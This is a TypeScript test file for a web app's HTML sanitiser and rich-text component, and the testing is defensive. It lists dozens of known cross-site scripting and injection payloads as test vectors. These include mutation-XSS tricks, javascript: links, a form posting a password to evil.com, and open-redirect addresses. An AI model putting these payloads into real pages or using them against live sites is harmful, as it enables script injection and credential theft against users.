import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { expect, test, vi } from 'vitest';
import { listedProjects } from '../../server/project/fixtures.ts';
import { createClock } from '../../server/shared/time.ts';
import { parsePage } from '../testing/parsePage.ts';
import { RichText } from './RichText.tsx';
import { safeAddress, sanitise } from './sanitise.ts';

/** Known attacks on sanitisers; the sanitised result must be inert. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.com/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/art/a.svg" onerror="alert(1)">',
  '<img src=https://evil.com/pixel.gif>',
  '<img src=//evil.com/pixel.gif>',
  '<img srcset="https://evil.com/a.png 2x" src="/art/a.svg">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.com/x.swf">',
  '<base href="https://evil.com/">',
  '<meta http-equiv=refresh content="0;url=https://evil.com">',
  '<link rel=stylesheet href=https://evil.com/x.css>',
  '<style>*{background:url(https://evil.com)}</style>',
  '<p style="background:url(https://evil.com)">x</p>',
  '<form action=https://evil.com><input name=password><button formaction=https://evil.com>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.com">x</a>',
  '<a href="\\\\evil.com">x</a>',
  '<a href="/\\evil.com">x</a>',
  '<a href="/\t/evil.com">x</a>',
  '<a href="/..//evil.com">x</a>',
  '<a href="https:evil.com">x</a>',
  '<a href="http://evil.com">x</a>',
  '<a href="https://user:word@evil.com">x</a>',
  '<a href="https://evil.com" target=_self rel=opener ping=https://evil.com onclick=alert(1)>x</a>',
  '<a id=cookie name=cookie href="/x">x</a><img name=getElementById src="/a.svg">',
  '<p id=root class="fixed inset-0" data-tip="x" aria-label="x" slot=x is=x>x</p>',
  '<x onclick=alert(1) contenteditable>x</x>',
  '<p>\u202Egnp.exe \u200B {{7*7}} =cmd()</p>',
];

const tags = new Set(
  'P BR HR H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE STRONG B EM I S SUB SUP A IMG'.split(' '),
);
const attributes = new Set('href title alt src width height dir target rel'.split(' '));

/** Elements and attributes in sanitised HTML that could run code, load, frame or post data, or imitate the site. */
function findUnsafe(html: string): string[] {
  const { body } = parsePage(`<body>${html}`);
  return [...body.querySelectorAll('*')].flatMap((element) => {
    const faults = tags.has(element.tagName) ? [] : [element.tagName];
    for (const { name, value } of element.attributes) {
      // The attribute `is` cannot be removed; DOMPurify empties it.
      if (!attributes.has(name) && !(name === 'is' && !value)) faults.push(name);
      if (name === 'src' && !/^\/(?![/\\])/.test(value)) faults.push(value);
      if (name !== 'href') continue;
      const { origin } = new URL(value, 'https://own.example');
      const isExternal = value.startsWith('https://');
      if (!isExternal && origin !== 'https://own.example') faults.push(value);
      if (isExternal && element.getAttribute('target') !== '_blank') faults.push('target');
      if (isExternal && element.getAttribute('rel') !== 'noopener noreferrer nofollow ugc')
        faults.push('rel');
    }
    return faults;
  });
}

test.each(vectors)('sanitising %s leaves nothing unsafe', (vector) => {
  const clean = sanitise(`<p>before</p>${vector}<p>after</p>`);
  expect(findUnsafe(clean)).toEqual([]);
  expect(clean).toContain('before');
  // Sanitising is idempotent: the browser sanitises the server's result again.
  expect(sanitise(clean)).toBe(clean);
});

test('an external link gets target and rel attributes; an internal link stays unchanged', () => {
  expect(sanitise('<a href="https://example.com/a?b=1">x</a>')).toBe(
    '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow ugc">x</a>',
  );
  expect(sanitise('<a href="/companies/company-halden-works">x</a>')).toBe(
    '<a href="/companies/company-halden-works">x</a>',
  );
  expect(sanitise('<img src="/art/a.svg" alt="A"><img src="https://evil.com/a.png">')).toBe(
    '<img src="/art/a.svg" alt="A">',
  );
});

test.each([
  ['/jobs?q=a#b', '/jobs?q=a#b'],
  ['https://example.com', 'https://example.com/'],
  ['/a/../b', '/b'],
  ['/..//evil.com', null],
  ['/\\evil.com', null],
  ['/\t/evil.com', null],
  ['//evil.com', null],
  ['\\\\evil.com', null],
  ['https:evil.com', null],
  ['https:/evil.com', null],
  ['http://example.com', null],
  ['https://a:b@example.com', null],
  ['javascript:alert(1)', null],
  ['jobs', null],
  ['#main', null],
  ['', null],
])('the address %j becomes %j', (written, safe) => {
  expect(safeAddress(written)).toBe(safe);
});

test('the sample projects keep every word and every tag', () => {
  const parts = (html: string) => html.replace(/ (?:target|rel)="[^"]*"/g, '');
  for (const { detailedDescription } of listedProjects(createClock(Date.now())))
    expect(parts(sanitise(detailedDescription))).toBe(detailedDescription);
});

test('an internal link navigates without reloading the page; the browser handles external links', async () => {
  const onNavigate = vi.fn<(path: string) => void>();
  const user = userEvent.setup();
  render(
    <RichText
      html='<a href="/jobs">Jobs</a> <a href="https://example.com/">Away</a>'
      onNavigate={onNavigate}
    />,
  );
  await user.click(screen.getByRole('link', { name: 'Jobs' }));
  expect(onNavigate).toHaveBeenCalledExactlyOnceWith('/jobs');
  expect(screen.getByRole('link', { name: 'Away' })).toHaveAttribute('target', '_blank');
});
